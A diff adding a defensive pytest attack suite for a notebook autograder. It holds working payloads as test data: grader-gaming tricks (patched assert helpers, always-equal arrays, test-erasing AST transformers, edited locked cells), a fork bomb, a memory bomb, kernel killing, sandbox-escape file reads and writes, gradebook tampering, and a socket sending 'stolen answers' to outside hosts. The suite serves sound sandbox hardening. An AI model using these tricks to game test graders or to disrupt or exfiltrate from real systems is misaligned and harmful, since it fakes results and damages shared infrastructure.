@@ -1,0 +1,371 @@
+"""The attack suite: malicious submissions must not earn points, escape, or disturb others.
+
+One course, one grading run: two honest students and one student per attack
+on assignment 01-perceptron, graded together by two workers. Every attacker
+implements nothing honestly (the released stubs, or functions that return
+zeros of the right shape), so any point it earns is unearned. For each attack
+a test checks that:
+
+- the submission earns no point (it earned none honestly);
+- the grading run completed and graded it;
+- the honest students' grades are what they earn in a class without attackers
+  (8 and 5 points: see ``test_grading.CLASS``);
+- the attack is reported, by the flag that names it.
+"""
+
+import uuid
+from pathlib import Path
+
+import nbformat
+import pytest
+from test_grading import ASSIGNMENT, CLASS, NOTEBOOK, SETTINGS, make_submission
+
+from autograder import course, grade, sandbox
+
+pytestmark = [
+    pytest.mark.slow,
+    pytest.mark.skipif(sandbox.detect() != "bubblewrap",
+                       reason="the attack suite needs the sandbox (bubblewrap, as root)"),
+]
+
+ROOT = Path(__file__).resolve().parent.parent
+HONEST = {"honest-complete": 8, "honest-partial": 5}
+MARK = uuid.uuid4().hex  # names the files attackers try to create outside their submission
+
+# Functions that return zeros of the right shapes: "passes" any check that is switched off.
+PLAUSIBLE = '''
+import numpy as np
+
+def step(z):
+    return np.zeros(np.shape(z))
+
+def perceptron_predict(X, w, b):
+    return np.zeros(len(X))
+
+def perceptron_train(X, y, learning_rate=1.0, epochs=100):
+    return np.zeros(np.shape(X)[1]), 0.0, [0]
+'''
+
+PATCH_HELPERS = '''
+import numpy as np
+import nnlib.testing as testing
+for name in ["assert_close", "assert_shape", "answer_given", "assert_raises", "assert_gradient"]:
+    setattr(testing, name, lambda *args, **kwargs: None)
+np.testing.assert_allclose = lambda *args, **kwargs: None
+w_and = b_and = w_or = b_or = 0.0
+'''
+
+ALWAYS_EQUAL = '''
+import numpy as np
+
+class AlwaysEqual(np.ndarray):
+    def __eq__(self, other):
+        return True
+    __ne__ = lambda self, other: False
+    def __array_ufunc__(self, *args, **kwargs):
+        return AlwaysEqual((0,))
+
+def _fake(*args, **kwargs):
+    return np.zeros(4).view(AlwaysEqual)
+
+step = perceptron_predict = _fake
+
+def perceptron_train(*args, **kwargs):
+    return _fake(), _fake(), _fake()
+'''
+
+INPUT_TRANSFORMER = '''
+get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
+'''
+
+CLEANUP_TRANSFORM = '''
+get_ipython().input_transformer_manager.cleanup_transforms.insert(0, lambda lines: ["pass\\n"])
+'''
+
+AST_TRANSFORMER = '''
+import ast
+
+class DropAsserts(ast.NodeTransformer):
+    def visit_Assert(self, node):
+        return ast.Pass()
+
+    def visit_Call(self, node):
+        return ast.Constant(None) if "assert" in ast.unparse(node.func) else node
+
+get_ipython().ast_transformers.append(DropAsserts())
+'''
+
+PATCH_NNLIB_AT_IMPORT = PLAUSIBLE + '''
+from . import testing as _testing
+for _name in ["assert_close", "assert_shape", "answer_given"]:
+    setattr(_testing, _name, lambda *args, **kwargs: None)
+'''
+
+PATCH_NUMPY_AT_IMPORT = PLAUSIBLE + '''
+np.allclose = lambda *args, **kwargs: True
+np.testing.assert_allclose = lambda *args, **kwargs: None
+'''
+
+OS_EXIT = '''
+import os
+
+def step(z):
+    os._exit(0)
+
+perceptron_predict = perceptron_train = step
+'''
+
+KILL_KERNEL = '''
+import os, signal
+for pid in (1, os.getppid()):
+    try:
+        os.kill(pid, signal.SIGKILL)
+    except OSError:
+        pass
+os.kill(os.getpid(), signal.SIGKILL)
+'''
+
+IGNORE_SIGINT = '''
+import signal
+signal.signal(signal.SIGINT, signal.SIG_IGN)
+while True:
+    pass
+'''
+
+FORK_BOMB = '''
+import os
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
+'''
+
+MEMORY_BOMB = '''
+blocks = []
+while True:
+    blocks.append(bytearray(2 ** 28))
+'''
+
+HUGE_OUTPUT = '''
+for _ in range(20000):
+    print("x" * 10000)
+'''
+
+READ_SOLUTIONS = PLAUSIBLE + f'''
+import glob
+for _pattern in [{str(ROOT / "solutions" / "nnlib" / "perceptron.py")!r},
+                 "../../../source/*/nnlib/perceptron.py", "/work/main/solutions/nnlib/*.py"]:
+    for _path in glob.glob(_pattern) or [_pattern]:
+        try:
+            exec(open(_path).read(), globals())
+        except OSError:
+            pass
+'''
+
+READ_HIDDEN_TESTS = f'''
+import glob
+for pattern in ["../../../source/*/*.ipynb", "../../../gradebook.db",
+                {str(ROOT / "solutions" / NOTEBOOK)!r}, "../../../autograded/*/*/*.ipynb"]:
+    for path in glob.glob(pattern) or [pattern]:
+        try:
+            print(open(path).read())
+        except OSError as error:
+            print("blocked:", error)
+'''
+
+WRITE_OUTSIDE = f'''
+import glob
+targets = ["{ROOT}/pwned-{MARK}.txt", "../../../pwned-{MARK}.txt", "/tmp/pwned-{MARK}.txt",
+           "../../../submitted/honest-complete/01-perceptron/nnlib/perceptron.py",
+           "../../honest-complete/01-perceptron/nnlib/perceptron.py"]
+for path in targets:
+    try:
+        with open(path, "w") as handle:
+            handle.write("raise SystemExit('sabotaged')\\n")
+    except OSError as error:
+        print("blocked:", error)
+'''
+
+TAMPER_GRADEBOOK = '''
+import glob
+import sqlite3
+for path in ["../../../gradebook.db", *glob.glob("/tmp/*/*/*/gradebook.db")]:
+    try:
+        db = sqlite3.connect(path)
+        db.execute("UPDATE grade SET manual_score = 100")
+        db.commit()
+    except Exception as error:
+        print("blocked:", error)
+'''
+
+NETWORK = '''
+import socket, urllib.request
+for address in [("1.1.1.1", 53), ("pypi.org", 443), ("127.0.0.1", 8888)]:
+    try:
+        socket.create_connection(address, timeout=3).sendall(b"stolen answers")
+    except OSError as error:
+        print("blocked:", error)
+try:
+    urllib.request.urlopen("https://pypi.org/simple/", timeout=3)
+except Exception as error:
+    print("blocked:", error)
+'''
+
+DEEP_RECURSION = '''
+import sys
+sys.setrecursionlimit(10 ** 8)
+
+def deeper(n):
+    return deeper(n + 1) + 1
+
+deeper(0)
+'''
+
+# Only in the trusted worker: a kernel whose own sockets get garbage hangs until the watchdog.
+FORGE_REPLIES = PLAUSIBLE + '''
+import json, os, sys
+_forged = json.dumps({"ok": True, "value": None, "id": "0"}).encode() + b"\\n"
+for _fd in range(1, 40) if "ipykernel" not in sys.modules else ():
+    try:
+        os.write(_fd, _forged)
+    except OSError:
+        pass
+'''
+
+
+def release_module(course_dir):
+    return (course_dir / "release" / ASSIGNMENT / "nnlib" / "perceptron.py").read_text()
+
+
+def edit_locked_cells(notebook):
+    """Make every test cell trivially pass and worth more."""
+    for cell in notebook.cells:
+        meta = cell.metadata.get("nbgrader", {})
+        if meta.get("grade") and cell.cell_type == "code":
+            cell.source = "pass"
+            meta["points"] = 100
+    return notebook
+
+
+def add_files(files):
+    def write(folder):
+        for name, text in files.items():
+            (folder / name).parent.mkdir(parents=True, exist_ok=True)
+            (folder / name).write_text(text)
+    return write
+
+
+SHADOW_FILES = {
+    "numpy.py": "def isclose(*a, **k):\n    return True\n",
+    "nnlib/testing.py": "def assert_close(*a, **k):\n    pass\n\nassert_shape = answer_given = "
+                        "assert_close\n",
+}
+
+# attack -> (module source or None for the stubs, answer-cell code, notebook edit, extra
+#            files, flags of which at least one must be reported)
+ATTACKS = {
+    "patched-assert-helpers": (PLAUSIBLE, PATCH_HELPERS, None, None, {"suspected-tampering"}),
+    "always-equal-values": (ALWAYS_EQUAL, None, None, None, {"suspicious-values"}),
+    "input-transformer": (None, INPUT_TRANSFORMER, None, None, {"suspected-tampering"}),
+    "cleanup-transform": (None, CLEANUP_TRANSFORM, None, None, {"suspected-tampering"}),
+    "ast-transformer": (PLAUSIBLE, AST_TRANSFORMER, None, None, {"suspected-tampering"}),
+    "shadowing-modules": (PLAUSIBLE, None, None, SHADOW_FILES,
+                          {"ignored-files", "replaced-files"}),
+    "patch-nnlib-at-import": (PATCH_NNLIB_AT_IMPORT, None, None, None, {"suspected-tampering"}),
+    "patch-numpy-at-import": (PATCH_NUMPY_AT_IMPORT, None, None, None, {"suspected-tampering"}),
+    "os-exit": (OS_EXIT, None, None, None, {"kernel-died"}),
+    "kill-kernel": (None, KILL_KERNEL, None, None, {"kernel-died"}),
+    "ignore-sigint": (None, IGNORE_SIGINT, None, None, {"kernel-unresponsive"}),
+    "fork-bomb": (None, FORK_BOMB, None, None, {"sandbox-events"}),
+    "memory-bomb": (None, MEMORY_BOMB, None, None, {"out-of-memory"}),
+    "huge-output": (None, HUGE_OUTPUT, None, None, {"output-cut"}),
+    "read-solutions": (READ_SOLUTIONS, None, None, None, {"sandbox-events"}),
+    "read-hidden-tests": (None, READ_HIDDEN_TESTS, None, None, {"sandbox-events"}),
+    "write-outside": (None, WRITE_OUTSIDE, None, None, {"sandbox-events"}),
+    "tamper-gradebook": (None, TAMPER_GRADEBOOK, None, None, {"sandbox-events"}),
+    "edit-test-cells": (PLAUSIBLE, None, edit_locked_cells, None, {"modified-locked-cells"}),
+    "network": (None, NETWORK, None, None, {"sandbox-events"}),
+    "deep-recursion": (None, DEEP_RECURSION, None, None,
+                       {"kernel-died", "recursion-limit", "kernel-unresponsive", "out-of-memory"}),
+    "forge-trusted-replies": (FORGE_REPLIES, None, None, None,
+                              {"suspicious-values", "suspected-tampering"}),
+}
+
+
+@pytest.fixture(scope="module")
+def attacked_course(tmp_path_factory):
+    """A class of honest students and attackers, graded in one run with two workers."""
+    course_dir = tmp_path_factory.mktemp("course")
+    course.build_course(course_dir)
+    for student in HONEST:
+        make_submission(course_dir, student, **CLASS[student.replace("honest-", "")][0])
+    for student, (module, answer, edit, files, _) in ATTACKS.items():
+        folder = make_submission(course_dir, student, module=module, notebook_edit=edit,
+                                 answer=answer or "blank")
+        if files:
+            add_files(files)(folder)
+    before = {p: p.read_bytes() for p in (course_dir / "submitted").rglob("*") if p.is_file()}
+    outcomes = grade.grade_course(course_dir, workers=2, settings=SETTINGS, progress=False)
+    return course_dir, {o.student: o for o in outcomes}, before
+
+
+@pytest.mark.parametrize("attack", list(ATTACKS))
+def test_attack_earns_nothing_and_is_reported(attacked_course, attack):
+    """Does the attack earn no point, leave the run complete and others' grades alone, and show?"""
+    course_dir, outcomes, _ = attacked_course
+    outcome = outcomes[attack]
+    assert outcome.status == "graded", outcome.problems  # graded, not lost
+    assert outcome.score == 0, (outcome.score, outcome.verdicts, outcome.problems)
+    for student, points in HONEST.items():
+        assert outcomes[student].score == points, outcomes[student]
+        assert not {"suspected-tampering", "sandbox-events"} & set(outcomes[student].flags)
+    reported = ATTACKS[attack][4] & set(outcome.flags)
+    assert reported, f"none of {ATTACKS[attack][4]} in {outcome.flags}: {outcome.problems}"
+    assert len(outcomes) == len(ATTACKS) + len(HONEST)
+
+
+def test_honest_students_agree_with_the_trusted_grader(attacked_course):
+    """Do nbgrader and the trusted checks agree on every cell of the honest submissions?"""
+    _, outcomes, _ = attacked_course
+    for student in HONEST:
+        verdicts = outcomes[student].verdicts
+        assert len(verdicts) == 4
+        assert all(v["nbgrader"] == v["trusted"] for v in verdicts.values()), verdicts
+
+
+def test_nothing_outside_a_submission_was_written(attacked_course):
+    """Did the write attacks leave the repository, the course and other submissions untouched?"""
+    course_dir, _, before = attacked_course
+    for place in [ROOT, course_dir, Path("/tmp")]:
+        assert not (place / f"pwned-{MARK}.txt").exists()
+    after = {p: p.read_bytes() for p in (course_dir / "submitted").rglob("*") if p.is_file()}
+    assert after == before
+
+
+def test_the_gradebook_holds_only_earned_points(attacked_course):
+    """Is every score in the gradebook at most the cell's points (nothing set by a student)?"""
+    from nbgrader.api import Gradebook
+
+    course_dir, outcomes, _ = attacked_course
+    config = course.load_config(course_dir)
+    with Gradebook(config.CourseDirectory.db_url, config.CourseDirectory.course_id) as gradebook:
+        for student, outcome in outcomes.items():
+            submission = gradebook.find_submission(ASSIGNMENT, student)
+            assert submission.score == outcome.score
+            for notebook in submission.notebooks:
+                for grade_ in notebook.grades:
+                    assert grade_.manual_score is None
+                    assert (grade_.auto_score or 0) <= grade_.max_score
+
+
+def test_hidden_tests_never_reach_an_output(attacked_course):
+    """Could the attacker who tried to read the hidden tests print any of them?"""
+    course_dir, _, _ = attacked_course
+    graded = nbformat.read(course_dir / "autograded" / "read-hidden-tests" / ASSIGNMENT / NOTEBOOK,
+                           as_version=4)
+    answer = next(c for c in graded.cells
+                  if c.metadata.get("nbgrader", {}).get("grade_id") == "answer-gates")
+    printed = "".join(out.get("text", "") for out in answer.outputs)
+    assert "blocked" in printed
+    assert "BEGIN HIDDEN TESTS" not in printed and "mistakes on AND" not in printed
